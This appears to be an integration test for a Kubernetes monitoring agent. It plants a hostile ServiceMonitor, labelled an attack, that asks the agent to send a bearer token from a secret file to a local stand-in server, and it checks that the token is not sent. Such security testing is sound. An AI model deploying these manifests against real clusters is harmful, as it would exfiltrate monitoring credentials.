// Takes 7 minutes.
import * as assert from "node:assert/strict";
import * as http from "node:http";
import { setTimeout as sleep } from "node:timers/promises";

import { stringify } from "yaml";

import { nodeIp } from "../lab/node/addresses";
import { apply } from "./support/apply";
import { assertGreen, kubectl, up } from "./support/engine";
import { eventually } from "./support/eventually";
import { useLab } from "./support/lab";

const port = 9555;
const passwordFile = "/etc/alloy-secrets/prometheus/local/password";

/** A ServiceMonitor like the node exporter's, which would have the agent send a file of its own to the attacker's server. */
function hostile(namespace: string, login: object = { bearerTokenFile: passwordFile }) {
    const labels = { "app.kubernetes.io/name": "node-exporter" };
    const metadata = { name: "hostile", namespace, labels };
    return [
        { apiVersion: "v1", kind: "Service", metadata, spec: { ports: [{ name: "metrics", port }] } },
        {
            apiVersion: "v1",
            kind: "Endpoints",
            metadata,
            subsets: [{ addresses: [{ ip: nodeIp() }], ports: [{ name: "metrics", port }] }],
        },
        {
            apiVersion: "monitoring.coreos.com/v1",
            kind: "ServiceMonitor",
            metadata,
            spec: {
                selector: { matchLabels: labels },
                endpoints: [{ port: "metrics", interval: "5s", ...login }],
            },
        },
    ];
}

describe("a ServiceMonitor that asks for the agent's passwords", () => {
    /** The login of each request that has come. */
    let asked: (string | undefined)[] = [];
    const server = http.createServer((request, response) => {
        asked.push(request.headers.authorization);
        response.end("");
    });

    before(async () => {
        await useLab();
        await new Promise<void>((resolve) => server.listen(port, resolve));
        assertGreen(await up("--no-verify"), "first up");
    });

    after(async () => {
        server.close();
        server.closeAllConnections();
        await kubectl("delete", "namespace", "attacker", "--ignore-not-found");
        const planted = ["servicemonitor,service,endpoints", "hostile", "--ignore-not-found"];
        await kubectl("-n", "node-exporter", "delete", ...planted);
        assertGreen(await up("--refresh", "--patience", "300"), "green again");
    });

    async function plant(namespace: string): Promise<void> {
        asked = [];
        await apply(hostile(namespace).map((object) => stringify(object)));
        // The operator component looks at once; a scrape is 5 seconds later.
        await sleep(40_000);
    }

    it("is not looked at in a namespace of others", async () => {
        await kubectl("create", "namespace", "attacker");
        await plant("attacker");
        assert.deepEqual(asked, []);
    });

    it("gets no file in the stack's own namespace either", async () => {
        await plant("node-exporter");
        assert.deepEqual(asked.filter(Boolean), []);
    });

    it("is scraped where agents look everywhere: the checks above would see it", async () => {
        const name = ["-n", "grafana-alloy", "configmap", "grafana-alloy-cm"];
        const { data } = JSON.parse(await kubectl("get", ...name, "--output=json")) as {
            data: Record<string, string>;
        };
        const text = data["config.alloy"]!;
        const everywhere = text.replaceAll(/^\tnamespaces\s*= \[.*\]\n/gm, "");
        assert.notEqual(everywhere, text);
        const patch = JSON.stringify({ data: { "config.alloy": everywhere } });
        await kubectl("patch", ...name, "--patch", patch);
        // Without a file it is a target like others.
        await apply(hostile("attacker", {}).map((object) => stringify(object)));
        asked = [];
        await eventually(240, () => {
            assert.notEqual(asked.length, 0);
            return Promise.resolve();
        });
    });
});
